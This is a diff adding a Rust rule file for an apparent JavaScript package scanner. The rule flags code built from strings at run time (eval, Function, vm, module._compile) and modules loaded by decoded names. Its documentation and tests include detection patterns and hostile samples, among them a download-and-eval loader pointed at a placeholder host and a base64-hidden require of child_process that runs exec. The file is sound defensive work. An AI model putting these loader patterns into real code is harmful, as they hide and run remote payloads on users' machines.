@@ -1,0 +1,258 @@
+//! `dynamic-code`: code built from strings at run time (eval, Function, vm, module._compile)
+//! and modules loaded by computed or decoded names.
+
+use palisade_core::{Capability, Confidence, Finding, Severity};
+
+use super::sinks::{self, is_computed, value_decoded};
+use super::{FileRule, RuleInfo};
+use crate::facts::{Call, FileFacts, Value};
+
+pub struct DynamicCode;
+
+static INFO: RuleInfo = RuleInfo {
+    id: "dynamic-code",
+    severity: Severity::Moderate,
+    confidence: Confidence::Medium,
+    capabilities: &[Capability::Eval],
+    summary:
+        "Evaluates code built at run time (eval, Function, vm, module._compile) or loads modules by computed names",
+    docs: r#"## What it detects
+
+- `eval` (direct and indirect: `(0, eval)(x)`, `globalThis.eval`, `window['eval']`), `Function` and
+  `new Function`, `vm.runInThisContext`/`runInNewContext`/`runInContext`/`compileFunction`,
+  `new vm.Script`, and `module._compile` on a hand-made module;
+- `require(x)` and `import(x)` where `x` is computed or decoded.
+
+Severity rises with where the code comes from:
+- **high**: the code or module name was decoded at run time (`eval(atob(…))`,
+  `require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==','base64').toString())`), or a small, hand-written
+  file evaluates a computed string and also talks to the network (download-and-eval);
+- **moderate**: `eval`, `vm` or `_compile` of a computed string;
+- **low**: `Function`/`eval` of a literal, `new Function(computed)` (template engines and schema
+  compilers do this), `require` of a computed path (plugin loaders).
+
+## Real attacks
+
+- event-stream 3.3.6 / flatmap-stream 0.1.1 (November 2018): decrypted a payload with the
+  consuming package's description as key and ran it with `module._compile`.
+- Many typosquats (`electorn`, `discordi.js`, …) wrap their stealer in `eval(atob('…'))` or
+  `new Function(Buffer.from(…,'base64').toString())()`.
+- Download-and-eval loaders (`https.get(url, r => … eval(body))`) in fake "config" and
+  "logger" packages, and second stages fetched from paste sites.
+
+## Known false positives
+
+Template engines (lodash.template, ejs, handlebars), schema compilers (ajv) and module loaders
+(jest, ts-node, pirates) compile code from strings: they stay low or moderate. Polyfills use
+`Function('return this')()`, which is ignored.
+"#,
+};
+
+const MAX_LOW_FINDINGS: usize = 3;
+
+/// Files larger than this are bundles: a network call and an eval far apart in them mean little.
+const SMALL_FILE: usize = 200_000;
+
+impl FileRule for DynamicCode {
+    fn info(&self) -> &'static RuleInfo {
+        &INFO
+    }
+
+    fn check(&self, file: &FileFacts, out: &mut Vec<Finding>) {
+        let small_handwritten = !file.metrics.minified && (file.metrics.bytes.max(file.size as usize)) < SMALL_FILE;
+        let downloads = small_handwritten && sinks::has_network(file);
+        let mut low = 0;
+        for call in &file.calls {
+            let Some((severity, confidence, message)) = classify(call, downloads) else {
+                continue;
+            };
+            if severity == Severity::Low {
+                if low >= MAX_LOW_FINDINGS {
+                    continue;
+                }
+                low += 1;
+            }
+            let evidence = sinks::call_evidence(file, call);
+            out.push(sinks::finding(
+                &INFO,
+                file,
+                call.line,
+                severity,
+                confidence,
+                message,
+                Some(&evidence),
+            ));
+        }
+    }
+}
+
+fn classify(call: &Call, downloads: bool) -> Option<(Severity, Confidence, String)> {
+    let callee = sinks::normalize(&call.callee);
+    if matches!(callee, "require" | "import" | "module.require" | "require.call") {
+        let specifier = call.args.first()?;
+        if value_decoded(specifier) {
+            let name = specifier
+                .as_str()
+                .map(|s| palisade_core::bounded_excerpt(s, 60))
+                .unwrap_or_default();
+            return Some((
+                Severity::High,
+                Confidence::High,
+                format!("Loads a module whose name is decoded at run time (`{name}`), hiding what it uses"),
+            ));
+        }
+        if is_computed(specifier) && !is_path_building(call, specifier) {
+            return Some((
+                Severity::Low,
+                Confidence::Low,
+                format!("Loads a module by a computed name ({callee}(…))"),
+            ));
+        }
+        return None;
+    }
+    let is_timer_string =
+        matches!(callee, "setTimeout" | "setInterval") && matches!(call.args.first(), Some(Value::Str { .. }));
+    if !sinks::is_eval(call) && !is_timer_string {
+        return None;
+    }
+    // `Function(a, b, body)`: the body is the last argument.
+    let code = if callee == "Function" {
+        call.args.last()
+    } else {
+        call.args.first()
+    };
+    let code = code?;
+    let what = match callee {
+        "Function" if call.is_new => "new Function",
+        "Function" => "Function",
+        other => other,
+    };
+    if value_decoded(code) {
+        return Some((
+            Severity::High,
+            Confidence::High,
+            format!("Evaluates code that is decoded at run time with {what}: the payload is hidden from readers"),
+        ));
+    }
+    if let Some(text) = code.as_str() {
+        let compact: String = text.chars().filter(|c| !c.is_whitespace()).collect();
+        if matches!(
+            compact.as_str(),
+            "returnthis" | "returnthis;" | "\"usestrict\";returnthis" | "returnglobalThis"
+        ) {
+            return None;
+        }
+        if is_timer_string {
+            return None;
+        }
+        return Some((
+            Severity::Low,
+            Confidence::Medium,
+            format!("Evaluates a literal string with {what}"),
+        ));
+    }
+    if is_timer_string {
+        return None;
+    }
+    if downloads && callee != "Function" {
+        return Some((
+            Severity::High,
+            Confidence::Medium,
+            format!("Evaluates a computed string with {what} in a small file that also downloads data: a download-and-run loader"),
+        ));
+    }
+    if callee == "Function" {
+        return Some((
+            Severity::Low,
+            Confidence::Low,
+            format!("Compiles a computed string with {what}"),
+        ));
+    }
+    Some((
+        Severity::Moderate,
+        Confidence::Low,
+        format!("Evaluates a computed string with {what}"),
+    ))
+}
+
+/// `require(path.join(__dirname, x))`, `require(require.resolve(x))`: loading by path, not hiding.
+fn is_path_building(call: &Call, value: &Value) -> bool {
+    let by_callee = matches!(value, Value::CallResult { callee } if matches!(sinks::normalize(callee), "path.join" | "path.resolve" | "require.resolve"));
+    let by_text = ["path.join(", "path.resolve(", "require.resolve(", "__dirname"]
+        .iter()
+        .any(|m| call.excerpt.contains(m));
+    by_callee || by_text
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::facts;
+
+    fn run(source: &str) -> Vec<Finding> {
+        let file = facts::extract("lib/index.js", source.as_bytes(), 0o644);
+        let mut out = Vec::new();
+        DynamicCode.check(&file, &mut out);
+        out
+    }
+
+    fn worst(source: &str) -> Severity {
+        run(source)
+            .iter()
+            .map(|f| f.severity)
+            .max()
+            .unwrap_or(Severity::Unknown)
+    }
+
+    #[test]
+    fn plain_code_and_literal_requires_are_quiet() {
+        assert!(run("const fs = require('fs'); import('./chunk.js'); module.exports = () => fs;").is_empty());
+        assert!(run("var g = Function('return this')();").is_empty());
+    }
+
+    #[test]
+    fn eval_of_decoded_string_is_high() {
+        let findings = run("const p = 'Y29uc29sZS5sb2coMSk=';\neval(Buffer.from(p, 'base64').toString('utf8'));");
+        assert_eq!(findings.len(), 1, "{findings:?}");
+        assert_eq!(findings[0].severity, Severity::High);
+        assert_eq!(findings[0].line, Some(2));
+        assert_eq!(findings[0].capabilities, vec![Capability::Eval]);
+    }
+
+    #[test]
+    fn new_function_of_atob_is_high() {
+        assert_eq!(worst("new Function(atob('cmV0dXJuIDE='))();"), Severity::High);
+    }
+
+    #[test]
+    fn require_of_decoded_name_is_high() {
+        let source = "const m = require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString());\nm.exec('id');";
+        assert_eq!(worst(source), Severity::High);
+    }
+
+    #[test]
+    fn download_and_eval_is_high() {
+        let source = "const https = require('https');\nhttps.get('https://cdn.example.invalid/s', (r) => { let d = ''; r.on('data', (c) => d += c); r.on('end', () => eval(d)); });";
+        assert_eq!(worst(source), Severity::High);
+    }
+
+    #[test]
+    fn vm_of_computed_code_is_moderate_and_template_compilers_low() {
+        assert_eq!(
+            worst("const vm = require('vm');\nmodule.exports = (src) => vm.runInThisContext(src);"),
+            Severity::Moderate
+        );
+        assert_eq!(
+            worst("module.exports = (body) => new Function('data', body);"),
+            Severity::Low
+        );
+    }
+
+    #[test]
+    fn computed_require_is_low_and_path_join_ignored() {
+        assert_eq!(worst("module.exports = (name) => require(name);"), Severity::Low);
+        assert!(
+            run("const path = require('path');\nmodule.exports = (n) => require(path.join(__dirname, n));").is_empty()
+        );
+    }
+}
